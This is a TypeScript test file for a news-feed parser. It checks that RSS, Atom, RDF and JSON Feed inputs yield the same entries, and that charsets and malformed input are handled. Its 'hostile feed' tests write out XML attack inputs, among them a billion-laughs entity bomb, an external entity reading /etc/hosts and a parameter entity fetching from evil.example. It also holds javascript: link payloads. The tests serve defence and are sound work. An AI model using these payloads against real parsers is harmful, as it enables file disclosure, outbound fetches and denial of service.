// Why it exists: holds that feeds of every format give the same entries, and hostile ones a reason.
import { describe, expect, test } from 'vitest'
import { type Feed, isFeed, readFeed } from '../../src/ingest/feed.ts'

const URL = 'https://courier.example/feeds/world.xml'
const read = (feed: string | Uint8Array) => readFeed(feed, { url: URL })
const item = (inner: string) =>
  read(`<rss version="2.0"><channel><title>Courier</title><item>${inner}</item></channel></rss>`).entries[0]

const AUTHOR = { name: 'Ana Vel', email: null }
const EXPECTED: Feed = {
  title: 'Courier & World',
  link: 'https://courier.example/',
  id: null,
  author: null,
  authors: [],
  description: 'News of both',
  language: 'en-GB',
  publishedAt: null,
  updatedAt: '2026-03-03T19:00:00Z',
  entries: [
    {
      id: 'tag:1',
      title: 'Talks “resume” & go on',
      link: 'https://courier.example/a',
      author: 'Ana Vel',
      authors: [AUTHOR],
      language: 'en-GB',
      publishedAt: '2026-03-03T18:20:00+02:00',
      updatedAt: '2026-03-04T00:00:00Z',
      refusedDate: null,
      summary: 'They <b>met</b>.',
      content: '<p>They met again.</p>',
    },
  ],
}

const [ENTRY] = EXPECTED.entries

const RSS = `<?xml version="1.0" encoding="utf-8"?>
<!-- written by hand --><rss version="2.0" xmlns:c="http://purl.org/rss/1.0/modules/content/" xmlns:d="http://purl.org/dc/elements/1.1/" xmlns:t="http://purl.org/dc/terms/">
<channel><title>Courier &amp; World</title><link>https://courier.example/</link><description>News of both</description><language>en-gb</language>
<image><title>Logo</title><link>https://courier.example/logo</link></image><lastBuildDate>Tue, 03 Mar 2026 19:00:00 GMT</lastBuildDate><item>
<title>Talks &amp;ldquo;resume&amp;rdquo; &amp;amp; go on</title><link> /a </link><guid isPermaLink="false">tag:1</guid><d:creator>Ana Vel</d:creator>
<pubDate>Tue, 03 Mar 2026 18:20:00 +0200</pubDate><t:modified>2026-03-04T00:00:00Z</t:modified><description>They &lt;b>met&lt;/b>.</description>
<c:encoded><![CDATA[<p>They met again.</p>]]></c:encoded></item></channel></rss>`
const ATOM = `<a:feed xmlns:a="http://www.w3.org/2005/Atom" xml:lang="en-GB"><a:title type="html">Courier &amp;amp; World</a:title><a:subtitle type="application/octet-stream"> TmV3cyBvZiA8Yj5ib3RoPC9iPg== </a:subtitle>
<a:link rel="self" href="https://courier.example/feeds/world.xml"/><a:link href="https://courier.example/"/><a:updated>2026-03-03T19:00:00Z</a:updated>
<a:entry><a:id>tag:1</a:id><a:title type="text">Talks “resume” &amp; go on</a:title>
<a:link rel="enclosure" href="/a.mp3"/><a:link rel="alternate" type="text/html" href="../a"/><a:author><a:name>Ana Vel</a:name></a:author>
<a:updated>2026-03-04T00:00:00Z</a:updated><a:published>2026-03-03T18:20:00+02:00</a:published>
<a:summary type="html">They &lt;b&gt;met&lt;/b&gt;.</a:summary>
<a:content type="xhtml"><p xmlns="http://www.w3.org/1999/xhtml">They met again.</p></a:content></a:entry></a:feed>`
const RDF = `<r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel r:about="https://courier.example/"><title>Courier &amp; World</title><link>https://courier.example/</link>
<description>News of both</description><dc:language>en-GB</dc:language><dc:date>2026-03-03T19:00:00Z</dc:date></channel>
<item r:about="tag:1"><title>Talks “resume” &amp;amp; go on</title><link>https://courier.example/a</link><dc:creator>Ana Vel</dc:creator>
<dc:date>2026-03-03T18:20:00+02:00</dc:date><description><![CDATA[They <b>met</b>.]]></description><content:encoded>&lt;p&gt;They met again.&lt;/p&gt;</content:encoded></item></r:RDF>`
const JSON_FEED = JSON.stringify({
  version: 'https://jsonfeed.org/version/1.1',
  title: 'Courier & World',
  home_page_url: 'https://courier.example/',
  description: 'News of both',
  language: 'en-GB',
  items: [
    'nonsense',
    {
      id: 'tag:1',
      url: '/a',
      title: 'Talks “resume” & go on',
      authors: [{ name: 'Ana Vel' }],
      date_published: '2026-03-03T18:20:00+02:00',
      date_modified: '2026-03-04T00:00:00Z',
      summary: 'They met.',
      content_html: '<p>They met again.</p>',
      tags: 7,
    },
  ],
})

describe('formats', () => {
  test.each([
    ['RSS 2.0', RSS, EXPECTED],
    ['Atom', ATOM, EXPECTED],
    // Dublin Core has one date, which may be that of the making or of a change.
    [
      'RDF',
      RDF,
      {
        ...EXPECTED,
        publishedAt: EXPECTED.updatedAt,
        entries: [{ ...ENTRY, updatedAt: '2026-03-03T18:20:00+02:00' }],
      },
    ],
  ])('%s gives the feed and its entries', (_, feed, expected) => {
    expect(read(feed)).toEqual(expected)
    expect(isFeed(feed)).toBe(true)
  })

  test('JSON Feed gives the entries, with summaries in plain text', () => {
    expect(read(JSON_FEED)).toEqual({
      ...EXPECTED,
      updatedAt: null,
      entries: [{ ...ENTRY, summary: '<p>They met.</p>' }],
    })
    expect(isFeed(JSON_FEED)).toBe(true)
  })

  test('RSS 0.91 with its doctype, and items beside the channel, is read', () => {
    const feed = `<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Courier</title></channel><item><title>A</title></item></rss>`
    expect(read(feed).entries.map((entry) => entry.title)).toEqual(['A'])
  })
})

describe('an item', () => {
  test.each([
    ['javascript:alert(1)', null],
    ['data:text/html,x', null],
    ['b?c=1&amp;d=2', 'https://courier.example/feeds/b?c=1&d=2'],
    ['', null],
  ])('with the link “%s” links to %s', (link, expected) => {
    expect(item(`<title>A</title><link>${link}</link>`)?.link).toBe(expected)
  })

  test('with a guid that is an address links there, unless it says that it is none', () => {
    expect(item('<guid>https://courier.example/g</guid>')?.link).toBe('https://courier.example/g')
    expect(item('<guid isPermaLink="false">https://courier.example/g</guid>')?.link).toBeNull()
  })

  test('with a date that is none has none', () => {
    for (const date of ['soon', '31 Feb 2026 10:00 GMT', 'Fri, 31 Dec 9999 10:00:00 GMT']) {
      expect(item(`<pubDate>${date}</pubDate>`)?.publishedAt).toBeNull()
    }
  })

  test('with a mailbox for an author has the name', () => {
    expect(item('<author>desk@courier.example (Ana Vel)</author>')?.author).toBe('Ana Vel')
    expect(item('<author>desk@courier.example</author>')?.author).toBeNull()
  })

  test('with nothing in it is an entry of nothing', () => {
    expect(item('')).toEqual({
      id: '',
      title: '',
      link: null,
      author: null,
      authors: [],
      language: null,
      publishedAt: null,
      updatedAt: null,
      refusedDate: null,
      summary: null,
      content: null,
    })
  })
})

describe('charsets', () => {
  const xml = (label: string, title: string) =>
    `<?xml version="1.0"${label}?><rss><channel><title>${title}</title></channel></rss>`
  const titleOf = (bytes: Uint8Array, contentType: string | null = null) => readFeed(bytes, { contentType }).title

  test.each([
    [
      'UTF-8 under a false label',
      Buffer.from(xml(' encoding="iso-8859-1"', 'Žofie')),
      'text/xml; charset=iso-8859-2',
      'Žofie',
    ],
    ['a mark before UTF-16', Buffer.from(`\ufeff${xml('', 'Žofie')}`, 'utf16le'), null, 'Žofie'],
    ['UTF-16 without a mark', Buffer.from(xml('', 'Žofie'), 'utf16le'), null, 'Žofie'],
    [
      'the label of HTTP',
      Buffer.from(xml(' encoding="koi8-r"', 'Ol\xe9'), 'latin1'),
      'text/xml; charset=iso-8859-1',
      'Olé',
    ],
    [
      'the label of the declaration',
      Buffer.from(xml(' encoding="windows-1251"', '\xcc\xe8\xf0'), 'latin1'),
      null,
      'Мир',
    ],
    [
      'a label of seven bits with escapes',
      Buffer.from(xml(' encoding="iso-2022-jp"', '\x1b$B2qCL\x1b(B'), 'latin1'),
      null,
      '会談',
    ],
    ['an unknown label', Buffer.from(xml(' encoding="nonsense"', 'Ol\xe9'), 'latin1'), 'text/xml; charset=none', 'Olé'],
    [
      'one broken byte',
      Buffer.concat([
        Buffer.from('<rss><channel><title>Žofie'.repeat(1)),
        Buffer.from([0xff]),
        Buffer.from(`${'ž'.repeat(20)}</title></channel></rss>`),
      ]),
      null,
      `Žofie\ufffd${'ž'.repeat(20)}`,
    ],
  ])('are told by %s', (_, bytes, contentType, expected) => {
    expect(titleOf(bytes, contentType)).toBe(expected)
  })
})

describe('what is no feed', () => {
  test.each([
    ['', 'empty'],
    [' \n ', 'empty'],
    ['<!doctype html><html><title>Sign in</title><form><input type="password"></form></html>', 'not_a_feed'],
    ['<html><p>&lt;rss> is a format, and so is <rss></p></html>', 'not_a_feed'],
    ['{"items": []}', 'not_a_feed'],
    ['{"version": "https://jsonfeed.org/version/1", "items": 7}', 'not_a_feed'],
    ['{"version": "https://jsonfeed.org/version/1", "items": [', 'not_a_feed'],
    ['rss', 'not_a_feed'],
    [Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'bad_type'],
  ])('is told: %#', (source, reason) => {
    expect(() => read(source)).toThrow(expect.objectContaining({ reason }))
    // A broken JSON feed is one by its version, and fails when it is read.
    expect(isFeed(source)).toBe(String(source).includes('jsonfeed'))
  })
})

describe('a hostile feed', () => {
  const rss = '<rss><channel><title>&lol9;</title></channel></rss>'
  test.each([
    [
      'a billion laughs',
      `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol9 "&lol;&lol;&lol;">]>${rss}`,
      'doctype_refused',
    ],
    [
      'an external entity',
      `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/hosts">]>${rss}`,
      'doctype_refused',
    ],
    [
      'a parameter entity',
      `<!DOCTYPE rss [ <!ENTITY % p SYSTEM "http://evil.example/p"> %p; ]>${rss}`,
      'doctype_refused',
    ],
    ['nesting without end', `<rss><channel><item><description>${'<b>'.repeat(100_000)}`, 'too_large'],
  ])(
    'with %s is refused',
    (_, feed, reason) => {
      expect(() => read(feed)).toThrow(expect.objectContaining({ reason }))
    },
    5000,
  )

  test('of 100,000 items gives the newest 200', () => {
    const items = Array.from({ length: 100_000 }, (_, index) => {
      const day = new Date(Date.UTC(2026, 0, 1) + index * 60_000).toUTCString()
      return `<item><title>${index}</title><pubDate>${day}</pubDate></item>`
    })
    const { entries } = read(`<rss><channel>${items.join('')}</channel></rss>`)
    expect(entries.map((entry) => entry.title)).toEqual(
      Array.from({ length: 200 }, (_, index) => String(99_999 - index)),
    )
  }, 15_000)

  test('of 300 undated items gives the first 200 in their order', () => {
    const items = Array.from({ length: 300 }, (_, index) => `<item><title>${index}</title></item>`)
    const titles = read(`<rss><channel>${items.join('')}</channel></rss>`).entries.map((entry) => entry.title)
    expect(titles).toEqual(Array.from({ length: 200 }, (_, index) => String(index)))
  })

  test('cut off in the middle gives what is there', () => {
    expect(read('<rss><channel><title>C</title><item><title>A</title></item><item><title>B').entries).toHaveLength(2)
  })

  test('with half a megabyte of title and what hides in it gives a short clean one', () => {
    const title = item(`<title>Talks\u202e resume ${'x'.repeat(500_000)}</title>`)?.title ?? ''
    expect(title.startsWith('Talks resume x')).toBe(true)
    expect(title.length).toBeLessThanOrEqual(300)
  })
})
